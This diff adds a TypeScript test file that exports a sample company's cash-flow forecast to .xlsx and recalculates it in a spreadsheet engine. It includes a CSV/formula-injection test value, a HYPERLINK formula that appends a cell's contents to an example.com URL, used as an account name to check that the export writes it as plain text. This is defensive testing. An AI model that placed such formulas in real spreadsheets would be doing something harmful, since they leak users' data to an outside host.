@@ -1,0 +1,185 @@
+import { buildForecast, DEFAULT_SETTINGS } from '@millpond/core/forecast'
+import { assembleLedger } from '@millpond/core/ledger'
+import { type ModelInput, statementsOf } from '@millpond/core/statement'
+import { flatten, type StatementKind, statementTable } from '@millpond/core/table'
+import { addMonths, day } from '@millpond/core/time'
+import { learnTiming } from '@millpond/core/timing'
+import { cellName, modelWorkbook, tableWorkbook, type Workbook } from '@millpond/core/workbook'
+import { buildCompany } from '@millpond/sandbox/companies'
+import { HyperFormula } from 'hyperformula'
+import { describe, expect, it } from 'vitest'
+import { sampleRecords } from '../../gateway/src/sample/sample-records.ts'
+import { writeWorkbook } from '../src/features/forecast/export/write-workbook.ts'
+import { type FileCell, type FileSheet, readWorkbook } from './_read-workbook.ts'
+
+const TODAY = day('2026-11-21')
+/** Months begin in the column F of every sheet. */
+const FIRST_MONTH = 5
+const CODE_COLUMN = 1
+
+/** Kererū Coffee, as whoever tries the sample sees it. */
+function sample() {
+  const books = assembleLedger([sampleRecords(buildCompany('kereru', TODAY), TODAY)], TODAY)
+  const { ledger, accounts, documents, payments, organisation } = books
+  if (!organisation) throw new Error('The sample is an organisation')
+  const forecast = buildForecast(ledger, {
+    asOf: TODAY,
+    country: organisation.country,
+    yearBeginsMonth: organisation.reportingYearBeginsMonth,
+    salesTaxBasis: organisation.salesTaxBasis,
+    salesTaxPeriodMonths: organisation.salesTaxPeriodMonths,
+    accounts,
+    openDocuments: documents.filter(({ status }) => status === 'open'),
+    learned: learnTiming({ documents, payments, accounts, ledger, asOf: TODAY }),
+    expectedDates: {},
+    settings: DEFAULT_SETTINGS,
+    holidays: new Set(),
+    layers: [],
+    customers: {},
+  })
+  return { ledger, forecast }
+}
+
+/** A name somebody gave an account so that a spreadsheet runs it. */
+const EVIL = '=HYPERLINK("http://example.com/?"&A1,"Sales")'
+
+const { ledger, forecast } = sample()
+const model = forecast.input
+const input: ModelInput = {
+  ...model,
+  flows: model.flows.map((flow, at) => (at === 0 ? { ...flow, name: EVIL } : flow)),
+}
+const workbook = modelWorkbook(input, ['About', '=1+1', '@SUM(A1)', '-2 & more <text>'])
+const written = async (content: Workbook = workbook) =>
+  readWorkbook(new Uint8Array(await bytesOf(await writeWorkbook(content))))
+
+const bytesOf = (blob: Blob): Promise<ArrayBuffer> =>
+  new Promise((resolve, reject) => {
+    const reader = new FileReader()
+    reader.onload = () => resolve(reader.result as ArrayBuffer)
+    reader.onerror = () => reject(reader.error)
+    reader.readAsArrayBuffer(blob)
+  })
+
+/** The file as a spreadsheet engine that nobody here wrote computes it. */
+function recalculated(sheets: readonly FileSheet[]) {
+  const engine = HyperFormula.buildEmpty({ licenseKey: 'gpl-v3' })
+  for (const { name } of sheets) engine.addSheet(name)
+  engine.suspendEvaluation()
+  for (const { name, cells } of sheets) {
+    const sheet = engine.getSheetId(name) ?? -1
+    for (const [address, cell] of cells) {
+      const at = engine.simpleCellAddressFromString(address, sheet)
+      if (!at) throw new Error(`${address} is no address`)
+      engine.setCellContents(at, raw(cell))
+    }
+  }
+  engine.resumeEvaluation()
+  return (name: string, row: number, column: number): unknown =>
+    engine.getCellValue({ sheet: engine.getSheetId(name) ?? -1, row, col: column })
+}
+
+/** An apostrophe is how a spreadsheet is told that what follows is text. */
+const raw = (cell: FileCell): string | number => {
+  if (cell.kind === 'number') return cell.number
+  return cell.kind === 'formula' ? `=${cell.formula}` : `'${cell.text}`
+}
+
+const rowNamed = (sheet: FileSheet | undefined, column: number, words: string): number => {
+  for (const [address, cell] of sheet?.cells ?? []) {
+    const row = Number(/\d+$/.exec(address)) - 1
+    const isThere = cell.kind === 'text' && cell.text === words
+    if (isThere && address === cellName(row, column)) return row
+  }
+  throw new Error(`No row ${words} on ${sheet?.name}`)
+}
+
+const exact = (amounts: ArrayLike<number>) => Array.from(amounts, amount => amount + 0)
+
+describe('the sample’s model as an .xlsx file', () => {
+  it('recalculates from the file alone to the model’s balances, cash rows and closing cash', async () => {
+    const sheets = await written()
+    const valueAt = recalculated(sheets)
+    const sheetOf = (name: string) => sheets.find(sheet => sheet.name === name)
+    const months = input.months.map((_, month) => FIRST_MONTH + month)
+    const read = (name: string, row: number) => months.map(column => valueAt(name, row, column))
+    const byCode = (name: string, code: string) =>
+      read(name, rowNamed(sheetOf(name), CODE_COLUMN, code))
+    const statements = statementsOf(input)
+    expect(input.months).toHaveLength(36)
+    expect(statements.balance.length).toBeGreaterThan(20)
+    for (const { code, name, amounts } of statements.balance) {
+      expect(byCode('Balances', code), name).toEqual(exact(amounts))
+    }
+    for (const { key, name, amounts } of statements.cash) {
+      expect(byCode('Cash', key), name).toEqual(exact(amounts))
+    }
+    const closing = read('Cash_flow', rowNamed(sheetOf('Cash_flow'), 0, 'Closing balance'))
+    expect(closing.map(dollars => Math.round(Number(dollars) * 100))).toEqual(
+      exact(statements.closingCash),
+    )
+    for (const row of [3, 4]) expect(read('Checks', row)).toEqual(months.map(() => 0))
+  }, 120_000)
+
+  it('has every text as text, whatever it begins with, and every formula as a formula', async () => {
+    const sheets = await written()
+    expect(sheets.map(({ name }) => name)).toEqual(workbook.sheets.map(({ name }) => name))
+    let texts = 0
+    for (const [at, { name, rows }] of workbook.sheets.entries()) {
+      for (const [row, cells] of rows.entries()) {
+        for (const [column, cell] of cells.entries()) {
+          const address = cellName(row, column)
+          const found = sheets[at]?.cells.get(address)
+          if (cell && 'text' in cell && cell.text !== '') {
+            texts += 1
+            expect(found, `${name} ${address}`).toEqual({ kind: 'text', text: cell.text })
+          }
+          if (cell && 'formula' in cell) expect(found?.kind, `${name} ${address}`).toBe('formula')
+        }
+      }
+    }
+    expect(texts).toBeGreaterThan(200)
+    const evil = sheets.flatMap(({ cells }) =>
+      [...cells.values()].filter(cell => cell.kind === 'text' && cell.text === EVIL),
+    )
+    expect(evil.length).toBeGreaterThan(0)
+  }, 120_000)
+})
+
+describe('a statement of the sample as an .xlsx file', () => {
+  const HEAD_ROWS = 3
+  const FIRST_COLUMN = 2
+
+  it.each<StatementKind>(['cashFlow', 'profitAndLoss', 'balanceSheet'])(
+    'recalculates to the figures on screen, totals as formulas: %s',
+    async statement => {
+      const table = statementTable({
+        ...{ ledger, forecast, statement, period: 'month', compare: 'none', yearBeginsMonth: 4 },
+        from: addMonths(ledger.closeMonth, -11),
+        to: addMonths(ledger.closeMonth, 12),
+      })
+      const [sheet] = await written(tableWorkbook(table, 'Kererū Coffee Ltd'))
+      if (!sheet) throw new Error('The file has no sheet')
+      const valueAt = recalculated([sheet])
+      const rows = flatten(table.rows)
+      expect(rows.length).toBeGreaterThan(15)
+      for (const [at, { name, amounts }] of rows.entries()) {
+        const row = at + HEAD_ROWS
+        const head = sheet.cells.get(cellName(row, 0))
+        expect(head?.kind === 'text' && head.text.trim()).toBe(name)
+        const found = table.columns.map((_, column) =>
+          valueAt(sheet.name, row, FIRST_COLUMN + column),
+        )
+        const inCents = found.map(value =>
+          value === null ? null : Math.round(Number(value) * 100),
+        )
+        expect(inCents.map(zeroIsZero), name).toEqual(amounts.map(zeroIsZero))
+      }
+      const formulas = [...sheet.cells.values()].filter(({ kind }) => kind === 'formula')
+      expect(formulas.length).toBeGreaterThan(table.columns.length * 2)
+    },
+    120_000,
+  )
+})
+
+const zeroIsZero = (amount: number | null) => (amount === null ? null : amount + 0)
